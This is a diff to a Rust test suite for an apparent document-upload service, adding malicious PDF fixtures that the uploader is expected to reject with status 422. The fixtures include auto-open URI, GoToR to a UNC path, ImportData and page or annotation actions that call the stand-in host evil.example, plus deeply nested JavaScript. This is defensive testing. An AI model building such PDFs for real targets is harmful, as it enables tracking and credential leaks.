@@ -393,6 +393,123 @@ fn korpus() -> Vec<Kasus> {
             pdf_aksi(dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("http://evil.example/") }),
             Tolak(422),
         ),
+        // Issue 15, point 5: every automatic action that leaves the document.
+        k(
+            "PDF opening an address (OpenAction URI)",
+            "sk.pdf",
+            pdf_aksi(dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") }),
+            Tolak(422),
+        ),
+        k(
+            "PDF with an OpenAction GoTo then URI (/Next)",
+            "sk.pdf",
+            pdf_aksi(dictionary! {
+                "S" => "GoTo",
+                "D" => Object::Array(vec![]),
+                "Next" => dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") },
+            }),
+            Tolak(422),
+        ),
+        k(
+            "PDF with an OpenAction URI by reference",
+            "sk.pdf",
+            pdf_dengan(|d, kat, _| {
+                let a =
+                    d.add_object(dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") });
+                set(d, kat, "OpenAction", a.into())
+            }),
+            Tolak(422),
+        ),
+        k(
+            "PDF with an OpenAction GoToR",
+            "sk.pdf",
+            pdf_aksi(
+                dictionary! { "S" => "GoToR", "F" => Object::string_literal("\\\\evil.example\\x.pdf"), "D" => Object::Array(vec![]) },
+            ),
+            Tolak(422),
+        ),
+        k(
+            "PDF with an OpenAction GoToE",
+            "sk.pdf",
+            pdf_aksi(dictionary! { "S" => "GoToE", "D" => Object::Array(vec![]) }),
+            Tolak(422),
+        ),
+        k(
+            "PDF with an OpenAction ImportData",
+            "sk.pdf",
+            pdf_aksi(dictionary! { "S" => "ImportData", "F" => Object::string_literal("http://evil.example/d.fdf") }),
+            Tolak(422),
+        ),
+        k(
+            "PDF with a page AA opening an address",
+            "sk.pdf",
+            pdf_dengan(|d, _, hal| {
+                set(
+                    d,
+                    hal,
+                    "AA",
+                    Object::Dictionary(
+                        dictionary! { "O" => dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") } },
+                    ),
+                )
+            }),
+            Tolak(422),
+        ),
+        k(
+            "PDF with an annotation AA opening an address",
+            "sk.pdf",
+            pdf_dengan(|d, _, hal| {
+                let aa = d.add_object(dictionary! { "E" => dictionary! { "S" => "URI", "URI" => Object::string_literal("http://evil.example/") } });
+                let annot = d.add_object(dictionary! {
+                    "Type" => "Annot", "Subtype" => "Widget",
+                    "Rect" => vec![0.into(), 0.into(), 595.into(), 842.into()],
+                    "AA" => aa,
+                });
+                set(d, hal, "Annots", Object::Array(vec![annot.into()]))
+            }),
+            Tolak(422),
+        ),
+        k(
+            "PDF with a link a person clicks (annotation /A URI)",
+            "sk.pdf",
+            pdf_dengan(|d, _, hal| {
+                let annot = d.add_object(dictionary! {
+                    "Type" => "Annot", "Subtype" => "Link",
+                    "Rect" => vec![0.into(), 0.into(), 100.into(), 20.into()],
+                    "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal("https://jdih.balangankab.go.id/") },
+                });
+                set(d, hal, "Annots", Object::Array(vec![annot.into()]))
+            }),
+            Netral,
+        ),
+        k(
+            "PDF with JavaScript nested 40 arrays deep",
+            "sk.pdf",
+            pdf_dengan(|d, kat, _| {
+                let mut o = Object::Dictionary(
+                    dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") },
+                );
+                for _ in 0..40 {
+                    o = Object::Array(vec![o]);
+                }
+                set(d, kat, "Sipkatdes", o)
+            }),
+            Tolak(422),
+        ),
+        k(
+            "encrypted PDF",
+            "sk.pdf",
+            pdf_dengan(|d, _, _| {
+                d.trailer.set(
+                    "Encrypt",
+                    dictionary! {
+                        "Filter" => "Standard", "V" => 1, "R" => 2, "P" => -4,
+                        "O" => Object::string_literal(vec![0u8; 32]), "U" => Object::string_literal(vec![0u8; 32]),
+                    },
+                )
+            }),
+            Tolak(422),
+        ),
         k(
             "PDF with an XFA form",
             "sk.pdf",
@@ -496,6 +613,7 @@ async fn korpus_unggahan_berbahaya_ditolak_atau_dinetralkan() {
     let korpus = korpus();
     assert!(korpus.len() >= 40, "the corpus has {} files", korpus.len());
     let mut tersimpan = Vec::new();
+    let mut salah = Vec::new();
     for kasus in &korpus {
         let sebelum = jumlah_dokumen(&app).await;
         let r = api
@@ -518,16 +636,21 @@ async fn korpus_unggahan_berbahaya_ditolak_atau_dinetralkan() {
             );
             assert_eq!(setelah, sebelum, "{}: refused but stored", kasus.apa);
         }
-        match kasus.harap {
-            Harap::Tolak(s) => assert_eq!(status, s, "{}: {v}", kasus.apa),
-            Harap::Netral => assert_eq!(status, 201, "{}: {v}", kasus.apa),
-            Harap::TolakAtauNetral => assert!(matches!(status, 201 | 413 | 415 | 422), "{}: {status}", kasus.apa),
+        // Every case is tried; the mismatches are reported together.
+        let benar = match kasus.harap {
+            Harap::Tolak(s) => status == s,
+            Harap::Netral => status == 201,
+            Harap::TolakAtauNetral => matches!(status, 201 | 413 | 415 | 422),
+        };
+        if !benar {
+            salah.push(format!("{}: {status} {v}", kasus.apa));
         }
         if !ditolak {
             assert_eq!(setelah, sebelum + 1, "{}", kasus.apa);
             tersimpan.push((kasus, v["id"].as_i64().unwrap()));
         }
     }
+    assert!(salah.is_empty(), "not as expected:\n{}", salah.join("\n"));
     // Everything stored is served as what it is, never as a page, under a safe name.
     for (kasus, dok) in &tersimpan {
         for path in [format!("/api/v1/dokumen/{dok}")] {
